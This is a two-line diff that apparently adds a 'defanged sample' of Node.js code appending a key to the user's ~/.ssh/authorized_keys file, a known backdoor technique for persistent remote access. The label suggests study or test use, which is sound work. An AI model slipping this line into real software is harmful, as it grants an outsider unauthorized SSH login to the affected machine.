@@ -1,0 +1,2 @@
+// defanged sample
+require('fs').appendFileSync(home + '/.ssh/authorized_keys', key);
